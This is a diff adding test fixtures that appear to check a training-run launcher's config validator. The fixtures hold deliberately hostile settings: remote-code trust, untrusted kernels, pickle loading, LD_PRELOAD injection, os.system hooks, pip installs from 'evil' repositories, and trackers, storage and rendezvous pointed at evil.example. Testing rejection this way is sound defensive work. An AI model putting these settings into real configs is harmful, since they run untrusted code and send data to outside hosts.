@@ -322,6 +322,170 @@ FILES = {
 }
 
 
+def _experiment(text: str, *words: str) -> tuple[dict[str, str], list[str]]:
+    return {"experiment/x.yaml": f"{GLOBAL}{text}\n"}, ["experiment=x", *words]
+
+
+def _loading(text: str) -> tuple[dict[str, str], list[str]]:
+    """An experiment with these arguments for whatever loads a model by its path."""
+    return _experiment(f"trainer: {{args: {{model_init_kwargs: {text}}}}}")
+
+
+def _sweep(text: str, *words: str) -> tuple[dict[str, str], list[str]]:
+    lines = f"{GLOBAL}hydra: {{mode: MULTIRUN, sweeper: {{{text}}}}}\n"
+    return {"sweep/x.yaml": lines}, ["sweep=x", "--dry-run", *words]
+
+
+SLURM, RAY = (f"defaults: [override /launcher: {name}]\nlauncher: " for name in ("slurm", "ray"))
+# Code of others in any shape and depth, under any name of ours or the library's.
+FILES |= {
+    "a kernel in a mapping": _loading("{attn_implementation: {'': evil/kernel}}"),
+    "a kernel deep in a mapping": _loading("{attn_implementation: {text_config: {'': evil/kernel}}}"),
+    "a kernel in a list": _loading("{attn_implementation: [evil/kernel]}"),
+    "a kernel under an inner name": _loading("{config: {_attn_implementation_internal: evil/kernel}}"),
+    "a kernel of experts": _loading("{experts_implementation: {'': 'evil/kernel@v1:Experts'}}"),
+    "a kernel of our key": _experiment("model: {attention: 'paged|evil/kernel'}"),
+    "a kernel of a teacher": _experiment(
+        "trainer: {teacher_model: {path: runner://model/tiny, attention: evil/kernel}}", "trainer=gkd"
+    ),
+    "a kernel of a new model": _experiment("model: {attn_implementation: evil/kernel}", "model=new"),
+    "a kernel of the batches that answer": _experiment(
+        "trainer: {args: {transformers_continuous_batching_config: {attn_implementation: evil/kernel}}}",
+        "trainer=grpo",
+    ),
+    "all kernels": _loading("{allow_all_kernels: true}"),
+    "all kernels, as a number": _loading("{allow_all_kernels: 1}"),
+    "kernels of layers": _loading("{use_kernels: true}"),
+    "a mapping of kernels": _loading("{kernel_config: {RMSNorm: 'evil/kernel:Norm'}}"),
+    "a config of kernels": _experiment("callback: {x: {_target_: transformers.KernelConfig}}"),
+    "trust as a word": _loading("{trust_remote_code: 'yes'}"),
+    "trust as the word False": _loading("{trust_remote_code: 'False'}"),
+    "trust as a list": _loading("{trust_remote_code: [false]}"),
+    "trust as a mapping": _loading("{trust_remote_code: {a: 0}}"),
+    "trust inside lists": _loading("{x: [[{trust_remote_code: true}]]}"),
+    "trust in a key with a dot": _loading("{a.trust_remote_code: true}"),
+    "trust of TRL's": _experiment("trainer: {args: {trust_remote_code: true}}"),
+    "trust of a teacher": _experiment(
+        "trainer: {args: {teacher_model_init_kwargs: {trust_remote_code: 1}}}", "trainer=gkd"
+    ),
+    "trust of a tokenizer's class": _experiment(
+        "model: {tokenizer: {_target_: transformers.AutoTokenizer.from_pretrained, "
+        "pretrained_model_name_or_path: evil/x, trust_remote_code: true}}"
+    ),
+    "trust of a learnt prompt": _experiment(
+        "peft: {_target_: peft.PromptTuningConfig, num_virtual_tokens: 3, tokenizer_kwargs: {trust_remote_code: true}}"
+    ),
+    "trust inside of what was not trusted": _experiment(
+        "model: {tokenizer: {trust_remote_code: true}}", "model.trust_remote_code=false"
+    ),
+    "generation by a repository": _experiment(
+        "trainer: {args: {generation_kwargs: {custom_generate: evil/x}}}", "trainer=grpo"
+    ),
+    "a map to code": _experiment("model: {config: {auto_map: {AutoModel: evil--x.Y}}}"),
+    "code of another revision": _loading("{code_revision: main}"),
+    "a request to change a repository": _experiment("model: {revision: refs/pr/3}"),
+    "pickles by weights_only": _loading("{weights_only: false}"),
+    "pickles by a number": _loading("{use_safetensors: 0}"),
+    "a module of peft's": _experiment("peft: {megatron_core: evil.core}", "peft=lora"),
+    "a mapping to a module": _experiment("peft: {auto_mapping: {parent_library: evil}}", "peft=lora"),
+    "an option with trust": ({"model/mine.yaml": "defaults: [tiny]\ntrust_remote_code: true\n"}, ["model=mine"]),
+    "a sweep that trusts": _sweep("params: {seed: '0,1', model.trust_remote_code: 'true'}"),
+    "a sweep that allows": _sweep("params: {seed: '0,1', allow: '[evil]'}"),
+    "a sweeper's function": _sweep("custom_search_space: os.system, params: {seed: '0,1'}"),
+    "a sweep over hydra": _sweep("params: {hydra.job.env_set.LD_PRELOAD: x, seed: '0,1'}"),
+}
+# Whatever leaves the machine, or writes elsewhere.
+FILES |= {
+    "a callback that sends": _experiment("callback: {x: {_target_: transformers.integrations.WandbCallback}}"),
+    "a callback by its home": _experiment(
+        "callback: {x: {_target_: transformers.integrations.integration_utils.CometCallback, _partial_: true}}"
+    ),
+    "a callback of TRL's": _experiment("callback: {x: {_target_: trl.WeaveCallback}}", "trainer=grpo"),
+    "a callback of the menu": _experiment("defaults: [override /callback: weave]", "trainer=grpo"),
+    "a callback in an option": (
+        {"callback/mine.yaml": "x: {_target_: transformers.integrations.MLflowCallback}\n"},
+        ["callback=mine"],
+    ),
+    "a callback in our option's place": (
+        {"callback/weave.yaml": "x: {_target_: trl.WeaveCallback}\n"},
+        ["callback=weave"],
+    ),
+    "a callback of a sweep": _sweep("params: {callback: weave, seed: '0,1'}", "trainer=grpo"),
+    "a callback that pushes": _experiment(
+        "callback: {x: {_target_: trl.experimental.merge_model_callback.MergeModelCallback, push_to_hub: true}}"
+    ),
+    "a repository to push to": _experiment("trainer: {args: {hub_model_id: evil/x}}", "trainer.args.push_to_hub=true"),
+    "a public repository": _experiment("trainer: {args: {hub_private_repo: false}}", "trainer.args.push_to_hub=true"),
+    "a space for figures": _experiment("trainer: {args: {trackio_static_space_id: evil/x}}"),
+    "another server beside a tracker that was typed": _experiment(
+        "tracker: {environment: {WANDB_BASE_URL: 'https://evil.example'}}", "tracker=wandb"
+    ),
+    "online beside a tracker that was typed": _experiment(
+        "tracker: {environment: {WANDB_MODE: online}}", "tracker=wandb"
+    ),
+    "a tracker beside one that was typed": _experiment(
+        "trainer: {args: {report_to: [comet_ml]}}", "tracker=tensorboard"
+    ),
+    "a tracker in our option's place": (
+        {"tracker/wandb.yaml": "report_to: wandb\nenvironment: {WANDB_MODE: online}\n"},
+        ["tracker=wandb"],
+    ),
+    "a tracker that asks where we are": _experiment("tracker: {report_to: codecarbon}"),
+    "a tracker of a sweep": _sweep("params: {tracker: wandb, tracker.environment.WANDB_MODE: online, seed: '0,1'}"),
+    "a tracker of deepspeed": _experiment("trainer: {args: {deepspeed: {wandb: {enabled: true}}}}"),
+    "a tracker in a file of deepspeed": (
+        {
+            "experiment/x.yaml": f"{GLOBAL}trainer: {{args: {{deepspeed: menu/ds.json}}}}\n",
+            "ds.json": '{"comet": {"enabled": true}}',
+        },
+        ["experiment=x"],
+    ),
+    "a folder of deepspeed": _experiment(
+        "trainer: {args: {deepspeed: {tensorboard: {enabled: true, output_path: /tmp/elsewhere}}}}"
+    ),
+    "a cache of an adapter": _experiment("peft: {corda_config: {cache_file: /etc/x}}", "peft=lora"),
+    "runs outside": _experiment("output_root: /tmp/elsewhere", "--dry-run"),
+    "runs above": _experiment("output_root: ../x", "--dry-run"),
+    "a sweeper's database": _sweep("storage: 'mysql://evil.example/x', params: {seed: '0,1'}"),
+}
+# What a launcher runs, or where it leads.
+FILES |= {
+    "ray: a program": _experiment(f"{RAY}{{runtime_env: {{py_executable: \"sh -c 'touch {{mark}}'\"}}}}", "--dry-run"),
+    "ray: packages": _experiment(f"{RAY}{{runtime_env: {{pip: ['git+https://evil/x']}}}}", "--dry-run"),
+    "ray: a variable": _experiment(f"{RAY}{{runtime_env: {{env_vars: {{LD_PRELOAD: ./x.so}}}}}}", "--dry-run"),
+    "ray: another cluster": _experiment(f"{RAY}{{address: 'evil.example:6379'}}", "--dry-run"),
+    "ray: packages of a launcher that was typed": _experiment(
+        "launcher: {runtime_env: {pip: [evil]}}", "launcher=ray", "--dry-run"
+    ),
+    "ray: beside what was typed": _experiment(
+        "launcher: {runtime_env: {env_vars: {LD_PRELOAD: x}}}",
+        *("launcher=ray", "launcher.runtime_env={env_vars: {A: b}}", "--dry-run"),
+    ),
+    "slurm: a variable": _experiment(f"{SLURM}{{parameters: {{export: 'ALL,LD_PRELOAD=./evil.so'}}}}", "--dry-run"),
+    "slurm: a container": _experiment(f"{SLURM}{{parameters: {{container: ./evil}}}}", "--dry-run"),
+    "slurm: a prolog": _experiment(f"{SLURM}{{parameters: {{task-prolog: ./evil}}}}", "--dry-run"),
+    "slurm: a mail": _experiment(f"{SLURM}{{parameters: {{mail_user: a@evil.example}}}}", "--dry-run"),
+    "slurm: another Python": _experiment("launcher: {python: ./evil}", "launcher=slurm", "--dry-run"),
+    "slurm: beside what was typed": _experiment(
+        "launcher: {parameters: {export: x}}",
+        *("launcher=slurm", "launcher.parameters={exclusive: true}", "--dry-run"),
+    ),
+    "slurm: lines in our option's place": (
+        {"launcher/slurm.yaml": "_target_: runner.launch.slurm.Slurm\nsetup: [touch {mark}]\n"},
+        ["launcher=slurm", "--dry-run"],
+    ),
+    "slurm: lines of a sweep": _sweep("params: {launcher: slurm, launcher.setup: '[touch {mark}]', seed: '0,1'}"),
+    "slurm: lines of a stage": _experiment(
+        "name: x\nstages: {a: ['launcher=slurm', 'launcher.setup=[touch {mark}]']}", "--dry-run"
+    ),
+    "accelerate: another machine": _experiment(
+        "defaults: [override /launcher: accelerate]\n"
+        "launcher: {num_machines: 2, machine_rank: 1, rendezvous: 'evil.example:29500'}",
+        "--dry-run",
+    ),
+}
+
+
 # --- Files of a few bytes that stand for a lot -----------------------------------------------------------------------
 
 
